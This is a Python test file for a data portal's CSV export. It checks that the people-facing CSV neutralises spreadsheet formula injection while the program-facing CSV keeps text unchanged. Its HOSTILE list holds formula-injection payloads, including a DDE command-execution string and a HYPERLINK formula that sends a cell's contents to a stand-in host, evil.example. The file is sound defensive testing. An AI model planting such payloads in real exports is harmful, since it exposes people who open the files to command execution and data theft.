"""CSV for people: whatever is in the texts, no spreadsheet computes anything. CSV for programs stays true."""

import csv
import io

import pytest
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from zenne.dataportal.query.encoding import for_sheet_without_formulas
from zenne.dataportal.query.export import export
from zenne.dataportal.query.plan import Output
from zenne.dataportal.rules.columns import ColumnType
from zenne.dataportal.storage.engine import database
from zenne.dataportal.tests.asking import ready
from zenne.dataportal.tests.builders import a_table

ROWS = "/api/v1/datasets/trees/tables/trees/rows"
HOSTILE = [
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1,"look")',
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tx",
    "＝1+1",
    "oak;=1+1",
    "oak;  -1+1",
    'oak;"=1+1',
    "oak\n@SUM(A1)",
    "oak\t+1",
]
HARMLESS = ["oak", "", "a=b", "rue de l'Été, 7-9", "jan@example.org", "'quoted'", "5 - 3", "line\r\nline", "a;b"]
COMPUTED = tuple("=+-@＝＋－＠")
TEXTS = st.text(st.sampled_from("=+-@＝;,\t\r\n \"'a"), max_size=8)


def cells(text: str, separator: str) -> list[str]:
    """What a spreadsheet makes of a file when it expects this separator."""
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]


def is_computed(cell: str) -> bool:
    """A spreadsheet takes no notice of white space before a formula."""
    return cell.strip().startswith(COMPUTED)


def exported(texts: list[str], *, is_safe: bool) -> str:
    a_table([["oak", text] for text in texts], [("kind", ColumnType.TEXT), ("text", ColumnType.TEXT)])
    return b"".join(export(ready(""), "csv", is_safe=is_safe)).decode()


@pytest.mark.django_db
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_text_becomes_a_formula_whatever_separator_the_spreadsheet_expects(separator: str) -> None:
    assert not [cell for cell in cells(exported(HOSTILE, is_safe=True), separator) if is_computed(cell)]


@pytest.mark.django_db
def test_harmless_texts_stay_as_they_are() -> None:
    found = cells(exported(HARMLESS, is_safe=True), ",")
    assert found[3::2] == HARMLESS


@pytest.mark.django_db
def test_programs_get_every_text_as_it_is() -> None:
    assert cells(exported(HOSTILE, is_safe=False), ",")[3::2] == HOSTILE


@settings(max_examples=300, deadline=None, derandomize=True, database=None, suppress_health_check=list(HealthCheck))
@given(TEXTS)
def test_no_text_at_all_becomes_a_formula(text: str) -> None:
    column = Output("text", ColumnType.TEXT, "VARCHAR")
    statement = f"SELECT {for_sheet_without_formulas(column)} FROM (SELECT $text AS text)"
    (made,) = database().cursor().execute(statement, {"text": text}).fetchone() or ("",)
    quoted = made.replace('"', '""')
    for separator in (",", ";", "\t"):
        assert not [cell for cell in cells(f'"oak","{quoted}"\r\n', separator) if is_computed(cell)]
    assert made.replace("'", "") == text.replace("'", "")


@pytest.mark.django_db
def test_the_page_of_a_table_gives_the_file_for_people_and_the_api_the_one_for_programs() -> None:
    a_table([["=1+1"]], [("text", ColumnType.TEXT)])
    assert "_format=csv&amp;_safe=true" in Client().get("/en/data/trees/trees/").content.decode()
    files = Client().get("/api/v1/datasets/trees").json()["tables"][0]["files"]
    assert all("_safe" not in each["url"] for each in files)
    answer = Client().get(ROWS, {"_format": "csv", "_safe": "true"})
    assert b"".join(answer.streaming_content) == b'"text"\r\n"\'=1+1"\r\n'  # type: ignore[attr-defined]


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["json", "ndjson", "xlsx", "parquet"])
def test_other_formats_have_no_such_variant(name: str) -> None:
    a_table([["oak"]], [("text", ColumnType.TEXT)])
    refused = Client().get(ROWS, {"_format": name, "_safe": "true"})
    assert (refused.status_code, refused.json()["code"]) == (422, "safe-of-another-format")
    assert Client().get(ROWS, {"_format": "csv", "_safe": "yes"}).json()["code"] == "not-true-or-false"
